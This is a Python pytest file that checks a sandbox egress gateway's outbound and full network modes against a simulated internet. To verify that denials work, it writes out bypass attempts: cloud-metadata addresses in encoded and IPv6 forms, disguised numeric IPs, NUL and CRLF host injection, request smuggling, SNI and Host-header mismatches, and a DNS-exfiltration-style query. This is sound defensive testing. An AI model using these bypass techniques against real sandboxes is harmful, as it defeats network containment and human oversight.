"""`network_mode: outbound` allows access to the hosts in `allowed_hosts`, and `full` to all public hosts.

The real agent tries to connect from a sandbox. The server and a fake internet run in two network namespaces; every
packet to the internet is recorded. Allowed hosts have global addresses, since the gateway dials no other addresses.
"""

import hashlib
import json

import pytest

from doubles import fake_public_host
from doubles.deployment import make_repository, python_turn, reply_turn
from doubles.egress_checks import ACCESS_CHECK_FUNCTIONS, PRINT_RESULTS
from doubles.fake_internet import METADATA_ADDRESS, PRIVATE_ADDRESS
from doubles.fake_internet_deployment import deployment_with_fake_internet, make_certificate, start_host

HOST, DEEP, SSH, HTTP2 = "files.example.org", "a.b.example.org", "git.example.net", "h2.example.net"
PLAIN, OTHER = "plain.example.net", "other.example.com"
HOST_ADDRESS, SERVICES_ADDRESS, OWN_ADDRESS = "8.8.4.4", "8.8.4.6", "8.8.4.5"
MODEL = "model.example.com"
NAMES_OF_HOST = (
    HOST,
    DEEP,
    SSH,
    HTTP2,
    PLAIN,
    OTHER,
    "example.org",
    "notexample.org",
    "a.example.org.evil.example.com",
)
NAMES = {
    **dict.fromkeys(NAMES_OF_HOST, HOST_ADDRESS),
    **dict.fromkeys((MODEL, "alias.example.com"), SERVICES_ADDRESS),
    "inside.example.com": PRIVATE_ADDRESS,
    "metadata.example.com": METADATA_ADDRESS,
    "own.example.com": OWN_ADDRESS,
    "intranet": HOST_ADDRESS,
    "files.internal": HOST_ADDRESS,
}
NON_PUBLIC_NAMES = ("inside.example.com", "metadata.example.com", "own.example.com")
UNRESOLVABLE = "nowhere.example.com"
HOSTS_WITH_PORTS = (f"{HOST}:8443", f"{HOST}:8080", f"{SSH}:22", f"{HTTP2}:9443")
OUTBOUND = {
    "network_mode": "outbound",
    "allowed_hosts": ["*.example.org", *HOSTS_WITH_PORTS, PLAIN, MODEL, *NON_PUBLIC_NAMES, UNRESOLVABLE],
}
FULL = {"network_mode": "full"}

REACHABLE_CHECKS = rf"""
HOST, DEEP, SSH, HTTP2, PLAIN, OTHER = {HOST!r}, {DEEP!r}, {SSH!r}, {HTTP2!r}, {PLAIN!r}, {OTHER!r}
for scheme in ("https", "http"):
    url = f"{{scheme}}://{{DEEP}}/a"
    attempt(f"yes: curl {{scheme}} by proxy", curl, url)
    attempt(f"yes: curl {{scheme}} direct", direct, url)
attempt("git: https by proxy", git, f"https://{{HOST}}/repo.git")
attempt("git: https direct", git, f"https://{{HOST}}/repo.git", DIRECT)
attempt("git: http by proxy", git, f"http://{{HOST}}/repo.git")
attempt("git: http direct", git, f"http://{{HOST}}/repo.git", DIRECT)
attempt("yes: upper case", curl, f"https://{{DEEP.upper()}}/a")
attempt("yes: final dot", direct, f"http://{{DEEP}}./a")
attempt("yes: https at another port by proxy", curl, f"https://{{HOST}}:8443/a")
attempt("yes: http at another port by proxy", curl, f"http://{{HOST}}:8080/a")
attempt("ssh: by proxy", lambda: read_send_read(connect(SSH, 22), b"SSH-2.0-me\r\n"))
attempt("ssh: direct", lambda: read_send_read(socket.create_connection((SSH, 22), 15), b"SSH-2.0-me\r\n"))
attempt("http2: by proxy", curl, "--http2", f"https://{{HTTP2}}:9443/a")
attempt("websocket: by proxy", lambda: websocket(connect(HOST, 443), HOST))
attempt("websocket: direct", lambda: websocket(socket.create_connection((HOST, 443), 15), HOST))
"""

UNREACHABLE_CHECKS = rf"""
MODEL, PORT = {MODEL!r}, int(MODEL_PORT)
attempt("no: private address", curl, "http://inside.example.com/x")
attempt("no: private address direct", direct, "http://inside.example.com/x")
attempt("no: metadata", curl, "http://metadata.example.com/x")
attempt("no: the server's own", curl, "http://own.example.com/x")
attempt("no: loopback", curl, "--proxy", "http://127.0.0.1:3128", "--noproxy", "", "http://localhost/x")
attempt("no: model by name", curl, f"http://{{MODEL}}:{{PORT}}/x")
attempt("no: model by another name", curl, f"http://alias.example.com:{{PORT}}/x")
attempt("no: model by its address", lambda: connect({SERVICES_ADDRESS!r}, PORT))
attempt("no: model in a tunnel", lambda: connect(MODEL, PORT))
attempt("no: model at 443", lambda: connect(MODEL, 443))
GET = b"GET /x HTTP/1.1\r\nHost: o.example.com\r\n\r\n"
attempt("no: other name in tunnel", lambda: secure(connect(HOST, 443), "other.example.com", GET, check=False))
attempt("no: other host at another port", lambda: exchange(connect(HOST, 8080), GET))
attempt("no: disguised address", lambda: connect("134744068", 80))
attempt("no: disguised address in hex", lambda: connect("0x08080404", 80))
attempt("no: zero in host", lambda: connect(HOST + "\0.evil.example", 443))
attempt("no: line end in host", lambda: connect(HOST + "\r\nX: evil.example", 443))
attempt("no: datagram", datagram, {HOST_ADDRESS!r}, 443)
attempt("no: datagram to a name", lambda: datagram(resolve(HOST), 443))
attempt("no: IPv6", lambda: socket.create_connection(("2001:4860:4860::8888", 443), 3))
attempt("no: address direct", direct, "-k", "http://{HOST_ADDRESS}/x")
attempt("no: one label", resolve, "intranet")
attempt("no: one label by proxy", curl, "http://intranet/x")
attempt("no: internal domain", resolve, "files.internal")
attempt("no: metadata name", resolve, "metadata.google.internal")
attempt("names: text record", lambda: query_dns(b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\4evil\3net\0\0\20\0\1"))
"""

OUTBOUND_CHECKS = r"""
def two_requests_at_once():
    request = "GET /{} HTTP/1.1\r\nHost: {}\r\n\r\n"
    with socket.create_connection((PLAIN, 80), 15) as plain:
        plain.sendall((request.format("first", PLAIN) + request.format("smuggled", OTHER)).encode())
        received = b""
        while data := plain.recv(1000):
            received += data
    return received.decode()

def big():
    with open("/tmp/big", "wb") as file:
        file.write(b"0123456789abcdef" * 65536)
    return direct("--data-binary", "@/tmp/big", f"https://{PLAIN}/big")

for scheme in ("https", "http"):
    url = f"{scheme}://{DEEP}/a"
    attempt(f"yes: python {scheme} by proxy", python, url)
    attempt(f"yes: python {scheme} direct", python, url, DIRECT)
    attempt(f"yes: node {scheme} direct", node, url, DIRECT)
    attempt(f"yes: {scheme} to a host without a wildcard by proxy", curl, f"{scheme}://{PLAIN}/a")
    attempt(f"yes: {scheme} to a host without a wildcard direct", direct, f"{scheme}://{PLAIN}/a")
attempt("yes: node https by proxy", lambda: node(f"https://{DEEP}/a", NODE_USE_ENV_PROXY="1"))
attempt("big", big)
attempt("first of two", two_requests_at_once)
attempt("address", resolve, PLAIN)
attempt("no: unknown address", direct, "-H", f"Host: {PLAIN}", "http://198.18.77.7/x")
attempt("no: other server name", direct, "-k", "--connect-to", f"{OTHER}:443:{PLAIN}:443", f"https://{OTHER}/x")
attempt("no: other Host", direct, "-H", f"Host: {OTHER}", f"http://{PLAIN}/x")
attempt("no: other Host by proxy", curl, "-H", f"Host: {OTHER}", f"http://{PLAIN}/x")
attempt("no: unresolvable", curl, "http://nowhere.example.com/x")
attempt("no: the domain itself", curl, "https://example.org/x")
attempt("no: the domain itself direct", direct, "http://example.org/x")
attempt("no: a domain that ends alike", curl, "https://notexample.org/x")
attempt("no: a domain that begins alike", curl, "https://a.example.org.evil.example.com/x")
attempt("no: other host", curl, "https://other.example.com/x")
attempt("no: other name", resolve, "other.example.com")
attempt("no: redirect elsewhere", curl, "-L", f"http://{HOST}/away/other.example.com")
attempt("no: redirect elsewhere direct", direct, "-L", f"http://{HOST}/away/other.example.com")
attempt("no: port of another host", curl, f"https://{DEEP}:8443/x")
attempt("no: port of another host direct", direct, f"https://{DEEP}:8443/x")
attempt("no: 443 where a port is given", curl, f"https://{SSH}/x")
attempt("no: port not listed", direct, f"https://{HOST}:9000/x")
attempt("no: address by proxy", lambda: connect("8.8.4.4", 443))
attempt("http2: direct", direct, "--http2", f"https://{HTTP2}:9443/a")
attempt("yes: https at another port direct", direct, f"https://{HOST}:8443/a")
attempt("yes: http at another port direct", direct, f"http://{HOST}:8080/a")
"""

FULL_CHECKS = r"""
attempt("yes: any host by proxy", curl, "https://other.example.com/a")
attempt("yes: any host direct", direct, "http://other.example.com/a")
attempt("yes: redirect elsewhere", curl, "-L", f"http://{HOST}/away/other.example.com?a")
attempt("yes: address by proxy", curl, "-k", "https://8.8.4.4/a")
attempt("yes: plain address by proxy", curl, "http://8.8.4.4:8080/a")
attempt("no: private by proxy", lambda: connect("10.1.2.3", 80))
attempt("no: metadata by proxy", lambda: connect("169.254.169.254", 80))
attempt("no: loopback by proxy", lambda: connect("127.0.0.1", 8123))
attempt("no: loopback in IPv6 by proxy", lambda: connect("[::1]", 80))
attempt("no: mapped metadata by proxy", lambda: connect("[::ffff:169.254.169.254]", 80))
attempt("no: NAT64 metadata by proxy", lambda: connect("[64:ff9b::a9fe:a9fe]", 80))
attempt("no: 6to4 metadata by proxy", lambda: connect("[2002:a9fe:a9fe::1]", 80))
attempt("no: the server's address by proxy", lambda: connect("8.8.4.5", 80))
attempt("no: port without proxy", direct, f"https://{HOST}:8443/x")
"""

MODES = {"outbound": (OUTBOUND, OUTBOUND_CHECKS), "full": (FULL, FULL_CHECKS)}


@pytest.fixture(scope="module")
def egress_setup(tmp_path_factory):
    """A server, and a fake internet whose names resolve to one host. Yields both, and the host's request log."""
    directory = tmp_path_factory.mktemp("egress")
    certificate, record = directory / "host.pem", directory / "host.ndjson"
    addresses = {"addresses": [HOST_ADDRESS, SERVICES_ADDRESS], "own_addresses": [OWN_ADDRESS]}
    with deployment_with_fake_internet(directory, NAMES, **addresses, services_address=SERVICES_ADDRESS) as (
        deployment,
        network,
    ):
        public = make_certificate(certificate, *NAMES_OF_HOST)
        deployment.start_git(command_prefix=network.internet_command_prefix)
        scripts = {
            mode: "\n".join(
                (
                    ACCESS_CHECK_FUNCTIONS,
                    "MODEL_PORT = open('/workspace/port').read()",
                    REACHABLE_CHECKS,
                    connections,
                    UNREACHABLE_CHECKS,
                    PRINT_RESULTS,
                )
            )
            for mode, (_, connections) in MODES.items()
        }
        branches = {f"Try {mode}.": (python_turn(script), reply_turn()) for mode, script in scripts.items()}
        deployment.start_model(branches=branches, command_prefix=network.internet_command_prefix)
        port = deployment.model_url.rpartition(":")[2]
        make_repository(deployment.repositories / "repo.git", {"port": port, "ca.pem": public})
        start_host(deployment, network, HOST_ADDRESS, certificate, record)
        deployment.start_server(ANTHROPIC_BASE_URL=f"http://{MODEL}:{port}")
        yield deployment, network, record


@pytest.fixture(scope="module", params=MODES)
def results(request, egress_setup):
    """Results of an agent's connections: its output, requests received by the host, packets, and reported events."""
    deployment, network, record = egress_setup
    mode, before = request.param, len(network.packets)
    for log in (record, deployment.model_requests_file):
        log.write_bytes(b"")
    deployment.submit(mode, vm=MODES[mode][0], claude={"prompt": f"Try {mode}."})
    status = deployment.wait(mode, seconds=180)
    assert status["state"] == "completed", deployment.diagnostics(mode)
    output = deployment.tool_results()[0]
    assert output.startswith("{"), output
    events = deployment.wire_events(mode)
    return {
        "mode": mode,
        "observed": json.loads(output),
        "host_requests": [json.loads(line) for line in record.read_text().splitlines()],
        "denied": [event for event in events if event["type"] == "egress_denied"],
        "errors": [event["error"] for event in events if event["type"] == "error"],
        "sent": set(network.packets[before:]),
        "direct_model_requests": [request for request in deployment.model_requests() if request["method"] != "POST"],
        "services": {
            ("tcp", SERVICES_ADDRESS, int(process.ready_message["url"].rpartition(":")[2]))
            for process in deployment.processes
            if "url" in process.ready_message
        },
        "status": status,
        "metadata": json.loads(deployment.artifact("metadata.json", mode)),
    }


outbound_only = pytest.mark.parametrize("results", ["outbound"], indirect=True)


def results_of(results, kind):
    found = {name: output for name, output in results["observed"].items() if name.startswith(f"{kind}:")}
    assert found
    return found


def test_allowed_hosts_are_reached_with_and_without_the_proxy(results):
    assert {name: output for name, output in results_of(results, "yes").items() if '"path": "/a"' not in output} == {}


def test_git_reads_from_allowed_hosts_with_and_without_the_proxy(results):
    refs = f"{fake_public_host.COMMIT}\trefs/heads/main\n"
    assert {name: output for name, output in results_of(results, "git").items() if refs not in output} == {}


def test_protocol_in_which_the_server_speaks_first_is_relayed(results):
    greeted = f"{fake_public_host.SERVER_BANNER.decode().strip()}, SSH-2.0-me"
    assert set(results_of(results, "ssh").values()) == {greeted}


def test_http2_and_websocket_pass_inside_tls(results):
    assert set(results_of(results, "http2").values()) == {"HTTP 2.0 /a"}
    assert set(results_of(results, "websocket").values()) == {"101 a frame"}


def test_denied_destinations_are_unreachable(results):
    for name, output in results_of(results, "no").items():
        assert '"path"' not in output, (name, output)
        refused = output.startswith(("exit ", "gaierror", "TimeoutError")) or "Error: " in output
        assert refused or not output or "Sandbox refused " in output or "does not resolve" in output, (name, output)
    assert results["observed"]["names: text record"] in (0, 3), "no record, or no such name"


def test_denied_requests_do_not_reach_the_host(results):
    lines = [line for _, line, _ in results["host_requests"]]
    assert any("/a " in line for line in lines)
    assert not any(("/x" in line and "/away/" not in line) or "/smuggled" in line for line in lines)
    if results["mode"] == "outbound":
        requested_hosts = {host.partition(":")[0].lower().removesuffix(".") for _, _, host in results["host_requests"]}
        assert requested_hosts <= {HOST, DEEP, SSH, HTTP2, PLAIN}


def test_model_is_reached_only_through_the_gateway(results):
    assert results["direct_model_requests"] == []
    assert "the model" in " ".join(denial["reason"] for denial in results["denied"])


def test_denials_are_reported_and_counted(results):
    hosts = {denial["host"] for denial in results["denied"]}
    assert {"inside.example.com", "metadata.example.com", "own.example.com", MODEL, "134744068"} <= hosts
    total = results["metadata"]["refusals_total"]
    assert total >= len(results["denied"]) >= 15
    assert results["status"]["progress"]["egress_denied"] == total


@outbound_only
def test_upload_arrives_unchanged(results):
    big = b"0123456789abcdef" * 65_536
    assert json.loads(results["observed"]["big"])["sha256"] == hashlib.sha256(big).hexdigest()


@outbound_only
def test_allowed_host_resolves_to_a_synthetic_address(results):
    assert results["observed"]["address"].startswith("198.18.")


@outbound_only
def test_pipelined_request_to_another_host_is_dropped(results):
    assert results["observed"]["first of two"].count("HTTP/1.1 200 OK") == 1
    assert '"path": "/first"' in results["observed"]["first of two"]


@outbound_only
def test_denial_events_have_destination_and_reason(results):
    denied = {(denial["host"], denial["port"]) for denial in results["denied"]}
    non_public = {(host, 80) for host in NON_PUBLIC_NAMES}
    others = {(OTHER, 443), (OTHER, 80), (OTHER, 53), (DEEP, 8443), (HOST_ADDRESS, 443), (PLAIN, 80)}
    assert non_public | others <= denied
    reasons = [denial["reason"] for denial in results["denied"]]
    for reason, times in (
        ("its TLS handshake names another server (SNI)", 2),
        ("Host header names a different host", 2),
        ("the Host header and the request target specify different hosts", 1),
        ("is not assigned to a host name", 1),
        ("resolves to no public address", 4),
    ):
        assert sum(reason in text for text in reasons) >= times, (reason, reasons)


@outbound_only
def test_unresolvable_host_is_reported_as_an_error(results):
    assert results["errors"] == ["host_unreachable"]


def test_only_expected_packets_were_sent(results):
    to_host = {("tcp", HOST_ADDRESS, port) for port in (22, 80, 443, 8080, 8443, 9443)}
    assert to_host <= results["sent"]
    assert results["sent"] <= results["services"] | to_host
